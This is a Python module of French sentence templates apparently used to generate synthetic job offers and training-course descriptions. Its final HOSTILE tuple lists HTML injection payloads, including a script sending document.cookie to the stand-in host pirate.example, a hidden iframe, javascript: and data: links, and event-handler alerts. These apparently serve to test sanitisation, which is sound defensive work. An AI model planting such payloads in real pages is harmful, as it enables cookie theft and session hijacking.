"""What contractors write: French sentences that descriptions are made of.

Belongs here: sentences, with their gaps. Does not: how they are put together (generator.py). Gaps: {employer}, {label}, {at_city} (« à Lyon », « au Puy »),
{of_city}, {hours}, {level}.
"""

from __future__ import annotations

JOB_OPENINGS = (
    "{employer} recrute pour son site {of_city} : {label}.",
    "Implantée {at_city} depuis plus de vingt ans, notre équipe s'agrandit et cherche : {label}.",
    "Dans le cadre d'un remplacement, {employer} recherche {at_city} une personne motivée pour le poste suivant : {label}.",
    "Vous aimez le travail bien fait et l'esprit d'équipe ? {employer} vous attend {at_city}.",
    "Notre établissement {of_city} se développe et ouvre un nouveau poste : {label}.",
    "Rattaché(e) au responsable d'exploitation, vous rejoignez {employer}, {at_city}, au sein d'une équipe de douze personnes.",
    "Entreprise familiale installée près {of_city}, nous cherchons une personne de confiance : {label}.",
    "{employer}, acteur reconnu de la région, renforce ses équipes sur le secteur {of_city}.",
)
MISSIONS = {
    "A": (
        "préparer les sols, semer et entretenir les cultures",
        "soigner les animaux et surveiller leur état de santé",
        "conduire et entretenir le matériel agricole",
        "récolter, trier et conditionner la production",
        "tailler et entretenir les espaces plantés",
        "tenir à jour les registres d'exploitation",
    ),
    "BCDE": (
        "accueillir et conseiller la clientèle",
        "mettre en rayon et veiller à la présentation du magasin",
        "encaisser les ventes et tenir la caisse",
        "préparer les dossiers et en suivre l'avancement",
        "proposer des supports de communication",
        "relancer les clients et suivre les règlements",
    ),
    "FHI": (
        "lire les plans et préparer le chantier",
        "régler la machine et contrôler les premières pièces",
        "assurer la maintenance préventive et les petits dépannages",
        "respecter les consignes de sécurité et porter les équipements de protection",
        "contrôler la qualité et signaler les écarts",
        "ranger et nettoyer le poste en fin de journée",
    ),
    "GL": (
        "accueillir les clients et prendre les commandes",
        "préparer les plats dans le respect des règles d'hygiène",
        "organiser la mise en place de la salle",
        "animer des ateliers pour les enfants et les familles",
        "préparer les chambres et les espaces communs",
        "participer à la réception des livraisons",
    ),
    "JK": (
        "accompagner les personnes dans les gestes de la vie quotidienne",
        "transmettre les informations utiles à l'équipe soignante",
        "rédiger des comptes rendus clairs",
        "accueillir le public et l'orienter vers le bon service",
        "participer aux réunions de coordination",
        "veiller au confort et à la dignité de chacun",
    ),
    "MN": (
        "préparer et contrôler les commandes",
        "conduire le véhicule dans le respect du code de la route",
        "saisir et vérifier les pièces comptables",
        "planifier les tournées et prévenir les clients",
        "développer et tester de nouvelles fonctionnalités",
        "répondre aux demandes par téléphone et par courriel",
    ),
}
JOB_PROFILES = (
    "Une première expérience dans un poste semblable serait un plus, mais nous formons volontiers les débutants.",
    "Vous êtes ponctuel(le), autonome et à l'aise avec les autres.",
    "Le permis B est nécessaire : le site n'est pas desservi par les transports en commun.",
    "Nous attachons autant d'importance à la motivation qu'au diplôme.",
    "Vous justifiez d'au moins deux ans d'expérience et aimez transmettre votre savoir-faire.",
    "Titulaire d'un CAP ou d'un bac professionnel, vous savez organiser votre journée.",
    "Poste ouvert aux personnes en situation de handicap.",
    "La connaissance des outils bureautiques courants est souhaitée.",
)
JOB_CONDITIONS = (
    "Horaires de journée, du lundi au vendredi, avec un vendredi après-midi sur deux libre.",
    "Travail en 2 x 8, panier repas et prime d'équipe.",
    "Mutuelle prise en charge à 60 %, titres-restaurant de 9 €, prime de fin d'année.",
    "Un samedi travaillé sur trois, récupéré dans la semaine suivante.",
    "Déplacements à prévoir dans le département, véhicule de service fourni.",
    "Logement possible sur place pendant la saison.",
    "Treizième mois et participation aux bénéfices après un an de présence.",
    "Deux jours de télétravail par semaine après la période d'intégration.",
)
JOB_CLOSINGS = (
    "Envoyez-nous votre CV et quelques lignes sur votre parcours : nous répondons à chaque candidature sous dix jours.",
    "Candidature simple, sans lettre de motivation.",
    "Les entretiens auront lieu sur place, {at_city}.",
    "Poste à pourvoir dès que possible. N'hésitez pas à nous appeler pour visiter l'atelier.",
    "Vous hésitez ? Venez passer une demi-journée avec nous avant de décider.",
)
TRAINING_OPENINGS = (
    "Cette formation proposée {at_city} prépare au métier suivant : {label}.",
    "{employer} ouvre une nouvelle session {at_city} pour apprendre le métier : {label}.",
    "Vous souhaitez changer de voie ? En {hours} heures, découvrez puis maîtrisez les bases du métier : {label}.",
    "Formation certifiante de niveau {level}, construite avec les entreprises de la région.",
    "Implanté {at_city}, notre centre forme chaque année une centaine de stagiaires, du débutant au professionnel confirmé.",
    "Un parcours concret, au plus près des ateliers, pour exercer le métier : {label}.",
)
TRAINING_MODULES = (
    "découverte du métier et de son environnement",
    "gestes et postures, prévention des risques professionnels",
    "techniques professionnelles en atelier, avec du matériel récent",
    "lecture de documents techniques et calculs appliqués",
    "communication avec les clients et travail en équipe",
    "outils numériques du métier",
    "réglementation, hygiène et qualité",
    "période en entreprise de quatre à huit semaines",
    "techniques de recherche d'emploi et préparation aux entretiens",
    "éco-gestes et gestion des déchets",
    "préparation à l'examen et passage devant le jury",
)
TRAINING_PUBLICS = (
    "Ouvert aux demandeurs d'emploi inscrits, aux salariés et aux jeunes sortis du système scolaire.",
    "Aucun diplôme n'est demandé ; savoir lire, écrire et compter est nécessaire.",
    "Niveau baccalauréat souhaité, ou trois ans d'expérience dans le secteur.",
    "Accessible aux personnes en situation de handicap : un référent étudie les aménagements avec vous.",
    "Un entretien et un test de positionnement précèdent l'entrée en formation.",
)
TRAINING_MEANS = (
    "Alternance de séances en salle, de travaux pratiques et de mises en situation.",
    "Groupes de douze personnes au plus, avec un formateur référent.",
    "Une partie des cours se suit à distance, à votre rythme.",
    "Les frais peuvent être pris en charge par la Région, votre compte personnel de formation ou votre entreprise.",
    "Neuf stagiaires sur dix obtiennent leur titre, et sept sur dix travaillent six mois plus tard.",
    "Restauration possible sur place ; internat à proximité.",
)
TRAINING_CLOSINGS = (
    "Réunion d'information collective chaque premier lundi du mois, {at_city}.",
    "Inscription en ligne ou sur place, dans la limite des places disponibles.",
    "Contactez notre équipe pour construire votre dossier de financement.",
    "Entrées possibles toute l'année, sous réserve de places.",
)
# Told apart by revision: two following revisions never open in the same way.
NEWS = (
    "",
    "Offre mise à jour. ",
    "Nouveau : les dates et les conditions ont été précisées. ",
    "Attention, l'annonce a changé. ",
    "Les modalités ci-dessous remplacent les précédentes. ",
)
JOB_TITLES = (
    "{label} (H/F)",
    "{label} H/F",
    "Poste de travail : {label}",
    "{label} - F/H",
    "URGENT - {label} (H/F)",
)
TRAINING_TITLES = (
    "Formation : {label}",
    "{label} - formation certifiante",
    "Devenir {label}",
    "{label} (titre professionnel)",
    "FORMATION {label}",
)
SLIP = "{employer} vous remercie de l'intérêt que vous portez à cette annonce."
HOSTILE = (
    "<script>document.location='https://pirate.example/vol?c='+document.cookie</script>",
    "<p onclick=\"alert('bonjour')\">Cliquez ici pour en savoir plus</p>",
    '<a href="javascript:alert(1)">Postulez vite</a>',
    '<img src="https://pistage.example/p.gif" onerror="alert(1)" width="1" height="1">',
    '<iframe src="https://pirate.example/formulaire"></iframe>',
    "<style>body { display: none }</style>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Plan d\'accès</a>',
)


def missions(rome: str) -> tuple[str, ...]:
    """The missions of a ROME code's family."""
    return next(told for families, told in MISSIONS.items() if rome[0] in families)
